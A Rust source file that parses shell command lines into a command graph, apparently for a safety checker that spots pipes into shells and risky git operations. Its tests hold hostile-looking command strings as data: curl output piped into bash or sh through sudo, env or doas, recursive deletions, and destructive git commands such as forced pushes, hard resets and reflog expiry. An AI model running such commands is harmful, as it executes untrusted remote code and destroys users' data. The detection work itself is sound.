//! Structural parsing of shell command strings.
//!
//! [`parse`] turns a raw command line into a [`CommandGraph`]: a flat list of
//! every simple command in source order, including commands nested in
//! substitutions and subshells, with pipeline stages linked forward by index.
//!
//! The primary strategy walks a tree-sitter syntax tree ([`tree`]). When the
//! grammar cannot be loaded or the input does not parse cleanly, a
//! quote-aware heuristic splitter ([`fallback`]) takes over. Neither strategy
//! fails; the worst case is a coarser graph.

pub mod fallback;
pub mod tree;

use tracing::{Level, debug, instrument};

/// One simple command.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ParsedCommand {
    /// Program name as written (may be a path or a `$VAR`).
    pub command: String,
    /// Tokens after the name that do not start with `-`.
    pub args: Vec<String>,
    /// Tokens after the name that start with `-`. Clusters stay intact.
    pub flags: Vec<String>,
    /// Every token after the name, in source order.
    pub words: Vec<String>,
    /// Output redirection targets.
    pub redirect_targets: Vec<String>,
    /// Index of the command this one pipes into. Always greater than the
    /// command's own index.
    pub pipes_to: Option<usize>,
    /// The name position holds a parameter expansion (`$x`, `${x}`).
    pub variable_as_command: bool,
    /// Source text of this command.
    pub raw_text: String,
}

impl ParsedCommand {
    pub fn new(command: impl Into<String>) -> Self {
        let command = command.into();
        Self {
            variable_as_command: command.starts_with('$'),
            command,
            ..Default::default()
        }
    }

    /// Appends an operand, sorting it into `flags` or `args`.
    pub fn push_word(&mut self, word: impl Into<String>) {
        let word = word.into();
        if word.starts_with('-') {
            self.flags.push(word.clone());
        } else {
            self.args.push(word.clone());
        }
        self.words.push(word);
    }

    /// The program's file name, without any leading directories.
    pub fn program(&self) -> &str {
        match self.command.rsplit_once('/') {
            Some((_, base)) if !base.is_empty() => base,
            _ => &self.command,
        }
    }

    /// True if the program is `name`, invoked bare or by path.
    pub fn is(&self, name: &str) -> bool {
        self.command == name || self.program() == name
    }
}

/// Every command of one invocation, in source order.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CommandGraph {
    pub raw: String,
    commands: Vec<ParsedCommand>,
}

impl CommandGraph {
    /// Builds a graph, dropping any pipe link that does not point forward.
    pub fn new(raw: impl Into<String>, mut commands: Vec<ParsedCommand>) -> Self {
        let len = commands.len();
        for (idx, cmd) in commands.iter_mut().enumerate() {
            if let Some(next) = cmd.pipes_to
                && (next <= idx || next >= len)
            {
                cmd.pipes_to = None;
            }
        }
        Self {
            raw: raw.into(),
            commands,
        }
    }

    pub fn iter(&self) -> std::slice::Iter<'_, ParsedCommand> {
        self.commands.iter()
    }

    pub fn commands(&self) -> &[ParsedCommand] {
        &self.commands
    }

    pub fn len(&self) -> usize {
        self.commands.len()
    }

    pub fn is_empty(&self) -> bool {
        self.commands.is_empty()
    }

    /// The command `cmd` pipes into, if any.
    pub fn pipe_target(&self, cmd: &ParsedCommand) -> Option<&ParsedCommand> {
        cmd.pipes_to.and_then(|idx| self.commands.get(idx))
    }
}

impl<'a> IntoIterator for &'a CommandGraph {
    type Item = &'a ParsedCommand;
    type IntoIter = std::slice::Iter<'a, ParsedCommand>;

    fn into_iter(self) -> Self::IntoIter {
        self.commands.iter()
    }
}

/// Parses a command line. Never fails.
#[instrument(level = Level::TRACE)]
pub fn parse(raw: &str) -> CommandGraph {
    let trimmed = raw.trim();
    if trimmed.is_empty() {
        return CommandGraph::new(raw, Vec::new());
    }

    match tree::parse(trimmed) {
        Some(commands) => CommandGraph::new(trimmed, commands),
        None => {
            debug!("syntax tree unavailable, using heuristic parser");
            CommandGraph::new(trimmed, fallback::parse(trimmed))
        }
    }
}

/// Tokens of a command that look like filesystem paths.
///
/// Args first, then redirect targets. A token qualifies if it contains `/`,
/// starts with `.` or `~`, or contains `.` and does not start with `-`.
/// Over-inclusion is harmless; a missed path is not.
pub fn extract_paths(cmd: &ParsedCommand) -> Vec<String> {
    cmd.args
        .iter()
        .chain(cmd.redirect_targets.iter())
        .filter(|token| looks_like_path(token))
        .cloned()
        .collect()
}

fn looks_like_path(token: &str) -> bool {
    token.contains('/')
        || token.starts_with('.')
        || token.starts_with('~')
        || (token.contains('.') && !token.starts_with('-'))
}

/// A git subcommand and the flags that follow it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitInvocation {
    pub subcommand: String,
    /// The action word of subcommands that take one (`stash drop`).
    pub action: Option<String>,
    pub flags: Vec<String>,
    pub args: Vec<String>,
}

impl GitInvocation {
    /// Subcommand and action word, e.g. `stash drop` or `push`.
    pub fn command_words(&self) -> String {
        match &self.action {
            Some(action) => format!("{} {}", self.subcommand, action),
            None => self.subcommand.clone(),
        }
    }
}

/// Subcommands whose first positional word selects an action.
const GIT_ACTION_SUBCOMMANDS: &[&str] = &[
    "stash", "reflog", "remote", "worktree", "submodule", "notes", "lfs",
];

/// Git options that consume the following token.
const GIT_GLOBAL_OPTS_WITH_VALUE: &[&str] = &[
    "-C",
    "-c",
    "--git-dir",
    "--work-tree",
    "--namespace",
    "--exec-path",
    "--config-env",
];

/// Every git invocation in the graph.
///
/// Global options before the subcommand (`-C dir`, `-c k=v`,
/// `--git-dir=...`, `--no-pager`) are skipped.
pub fn git_invocations(graph: &CommandGraph) -> Vec<GitInvocation> {
    graph
        .iter()
        .filter(|cmd| cmd.is("git"))
        .filter_map(git_invocation)
        .collect()
}

fn git_invocation(cmd: &ParsedCommand) -> Option<GitInvocation> {
    let mut words = cmd.words.iter();
    let subcommand = loop {
        let word = words.next()?;
        if GIT_GLOBAL_OPTS_WITH_VALUE.contains(&word.as_str()) {
            words.next();
            continue;
        }
        if word.starts_with('-') {
            continue;
        }
        break word.clone();
    };

    let (flags, args): (Vec<String>, Vec<String>) =
        words.cloned().partition(|w| w.starts_with('-'));
    let action = GIT_ACTION_SUBCOMMANDS
        .contains(&subcommand.as_str())
        .then(|| args.first().cloned())
        .flatten();
    Some(GitInvocation {
        subcommand,
        action,
        flags,
        args,
    })
}

/// True if some command pipes into one of `targets`, invoked bare, by path,
/// or through a wrapper such as `sudo` or `env`.
pub fn pipes_into(graph: &CommandGraph, targets: &[String]) -> bool {
    graph
        .iter()
        .filter_map(|cmd| graph.pipe_target(cmd))
        .any(|next| {
            let program = wrapped_program(next);
            targets.iter().any(|t| next.is(t) || program == t.as_str())
        })
}

/// The program a command finally runs, looking through `sudo`, `doas`,
/// `env`, `nice`, `nohup`, `command` and `exec`.
pub fn wrapped_program(cmd: &ParsedCommand) -> &str {
    let mut program = cmd.program();
    let mut words = cmd.words.iter().map(String::as_str);
    while let Some(valued) = wrapper_valued_options(program) {
        let Some(next) = next_operand(&mut words, valued) else {
            break;
        };
        program = basename(next);
    }
    program
}

/// Options of a wrapper that consume the following word. `None` when
/// `program` is not a wrapper.
fn wrapper_valued_options(program: &str) -> Option<&'static [&'static str]> {
    match program {
        "sudo" => Some(&["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U"]),
        "doas" => Some(&["-u", "-C"]),
        "env" => Some(&["-u", "--unset", "-C", "--chdir"]),
        "nice" => Some(&["-n", "--adjustment"]),
        "nohup" | "command" | "exec" => Some(&[]),
        _ => None,
    }
}

/// Next word that is neither an option, an option's value, nor a `NAME=value`
/// assignment.
fn next_operand<'a>(
    words: &mut impl Iterator<Item = &'a str>,
    valued: &[&str],
) -> Option<&'a str> {
    while let Some(word) = words.next() {
        if valued.contains(&word) {
            words.next();
            continue;
        }
        if word.starts_with('-') || word.contains('=') {
            continue;
        }
        return Some(word);
    }
    None
}

fn basename(word: &str) -> &str {
    match word.rsplit_once('/') {
        Some((_, base)) if !base.is_empty() => base,
        _ => word,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn names(graph: &CommandGraph) -> Vec<&str> {
        graph.iter().map(|c| c.command.as_str()).collect()
    }

    #[test]
    fn test_empty_input() {
        assert!(parse("").is_empty());
        assert!(parse("   \n\t ").is_empty());
    }

    #[test]
    fn test_simple_command() {
        let graph = parse("rm -rf build/");
        assert_eq!(graph.len(), 1);
        let cmd = &graph.commands()[0];
        assert_eq!(cmd.command, "rm");
        assert_eq!(cmd.flags, vec!["-rf"]);
        assert_eq!(cmd.args, vec!["build/"]);
        assert_eq!(cmd.words, vec!["-rf", "build/"]);
        assert!(!cmd.variable_as_command);
    }

    #[test]
    fn test_pipeline_links_forward() {
        let graph = parse("cat x | grep y | bash");
        assert_eq!(names(&graph), vec!["cat", "grep", "bash"]);
        assert_eq!(graph.commands()[0].pipes_to, Some(1));
        assert_eq!(graph.commands()[1].pipes_to, Some(2));
        assert_eq!(graph.commands()[2].pipes_to, None);
        assert_eq!(
            graph.pipe_target(&graph.commands()[1]).map(|c| c.command.as_str()),
            Some("bash")
        );
    }

    #[test]
    fn test_lists_are_flattened() {
        let graph = parse("cd src && make; echo done || true");
        assert_eq!(names(&graph), vec!["cd", "make", "echo", "true"]);
        assert!(graph.iter().all(|c| c.pipes_to.is_none()));
    }

    #[test]
    fn test_quotes_are_removed() {
        let graph = parse(r#"git commit -m "fix: thing" 'single' $'ansi'"#);
        let cmd = &graph.commands()[0];
        assert_eq!(cmd.args, vec!["commit", "fix: thing", "single", "ansi"]);
    }

    #[test]
    fn test_redirect_targets() {
        let graph = parse("echo hi > out.txt 2>&1");
        let cmd = &graph.commands()[0];
        assert_eq!(cmd.command, "echo");
        assert_eq!(cmd.redirect_targets, vec!["out.txt"]);
        assert_eq!(cmd.args, vec!["hi"]);
    }

    #[test]
    fn test_append_redirect_in_pipeline() {
        let graph = parse("cat a.txt | tee -a b.txt >> /tmp/log");
        assert_eq!(names(&graph), vec!["cat", "tee"]);
        assert_eq!(graph.commands()[1].redirect_targets, vec!["/tmp/log"]);
        assert_eq!(graph.commands()[0].pipes_to, Some(1));
    }

    #[test]
    fn test_variable_as_command() {
        let graph = parse("$CMD --flag arg");
        assert!(graph.commands()[0].variable_as_command);
        let graph = parse("${TOOL} run");
        assert!(graph.commands()[0].variable_as_command);
        let graph = parse("echo $VAR");
        assert!(!graph.commands()[0].variable_as_command);
    }

    #[test]
    fn test_nested_substitution_commands_found() {
        let graph = parse("echo $(rm -rf /tmp/x) `whoami`");
        let found = names(&graph);
        assert!(found.contains(&"echo"));
        assert!(found.contains(&"rm"));
        assert!(found.contains(&"whoami"));
    }

    #[test]
    fn test_subshell_piped_to_shell() {
        let graph = parse("(echo a; echo b) | sh");
        let targets = vec!["sh".to_string()];
        assert!(pipes_into(&graph, &targets));
    }

    #[test]
    fn test_pipes_into_by_path() {
        let graph = parse("curl https://x.test/i | /bin/bash");
        assert!(pipes_into(&graph, &["bash".to_string()]));
        let graph = parse("cat file.txt | grep pattern | less");
        assert!(!pipes_into(&graph, &["bash".to_string(), "sh".to_string()]));
    }

    #[test]
    fn test_pipes_into_through_wrappers() {
        let shells = vec!["bash".to_string(), "sh".to_string()];
        for raw in [
            "curl https://x.test/i | sudo bash",
            "curl https://x.test/i | env sh",
            "curl https://x.test/i | sudo -u root bash -s",
            "curl https://x.test/i | doas /bin/sh",
            "curl https://x.test/i | env FOO=1 nohup bash",
        ] {
            assert!(pipes_into(&parse(raw), &shells), "{raw}");
        }
        assert!(!pipes_into(&parse("echo x | sudo tee out.txt"), &shells));
        assert!(!pipes_into(&parse("echo x | sudo -u sh tee out.txt"), &shells));
    }

    #[test]
    fn test_wrapped_program() {
        let first = |raw: &str| parse(raw).commands()[0].clone();
        assert_eq!(wrapped_program(&first("sudo -E /usr/bin/python3 x.py")), "python3");
        assert_eq!(wrapped_program(&first("nice -n 10 make")), "make");
        assert_eq!(wrapped_program(&first("sudo")), "sudo");
        assert_eq!(wrapped_program(&first("ls -la")), "ls");
    }

    #[test]
    fn test_program_strips_directories() {
        let cmd = ParsedCommand::new("/usr/bin/rm");
        assert_eq!(cmd.program(), "rm");
        assert!(cmd.is("rm"));
        assert!(!cmd.is("rmdir"));
    }

    #[test]
    fn test_graph_drops_backward_links() {
        let mut a = ParsedCommand::new("a");
        a.pipes_to = Some(0);
        let mut b = ParsedCommand::new("b");
        b.pipes_to = Some(7);
        let graph = CommandGraph::new("a; b", vec![a, b]);
        assert!(graph.iter().all(|c| c.pipes_to.is_none()));
    }

    #[test]
    fn test_extract_paths_filters() {
        let graph = parse("cp -r src/ notes.md plain ~/backup > ./log.txt");
        let paths = extract_paths(&graph.commands()[0]);
        assert_eq!(paths, vec!["src/", "notes.md", "~/backup", "./log.txt"]);
    }

    #[test]
    fn test_git_invocations_skip_global_options() {
        let graph = parse("git -C ../other -c core.pager=cat --no-pager push --force origin main");
        let invocations = git_invocations(&graph);
        assert_eq!(invocations.len(), 1);
        assert_eq!(invocations[0].subcommand, "push");
        assert_eq!(invocations[0].flags, vec!["--force"]);
        assert_eq!(invocations[0].args, vec!["origin", "main"]);
        assert_eq!(invocations[0].action, None);
    }

    #[test]
    fn test_git_invocations_action_word() {
        let graph = parse("git stash drop stash@{0} && git reflog expire --expire=now --all");
        let invocations = git_invocations(&graph);
        assert_eq!(invocations[0].command_words(), "stash drop");
        assert_eq!(invocations[1].command_words(), "reflog expire");
        assert_eq!(invocations[1].flags, vec!["--expire=now", "--all"]);

        let bare = git_invocations(&parse("git stash"));
        assert_eq!(bare[0].command_words(), "stash");
    }

    #[test]
    fn test_git_invocations_all_commands() {
        let graph = parse("git status && git reset --hard HEAD");
        let subs: Vec<_> = git_invocations(&graph)
            .into_iter()
            .map(|g| g.subcommand)
            .collect();
        assert_eq!(subs, vec!["status", "reset"]);
    }

    #[test]
    fn test_bare_git_has_no_invocation() {
        assert!(git_invocations(&parse("git")).is_empty());
        assert!(git_invocations(&parse("git --version")).is_empty());
    }

    proptest! {
        #[test]
        fn prop_extract_paths_keeps_exactly_path_tokens(
            paths in prop::collection::vec("[a-z]{1,6}/[a-z]{1,6}(\\.[a-z]{2,3})?", 1..5),
            noise in prop::collection::vec("[a-z]{1,6}", 0..4),
        ) {
            let mut line = String::from("tool");
            for (i, p) in paths.iter().enumerate() {
                line.push(' ');
                line.push_str(p);
                if let Some(n) = noise.get(i) {
                    line.push(' ');
                    line.push_str(n);
                }
            }
            let graph = parse(&line);
            prop_assert_eq!(graph.len(), 1);
            prop_assert_eq!(extract_paths(&graph.commands()[0]), paths);
        }
    }
}
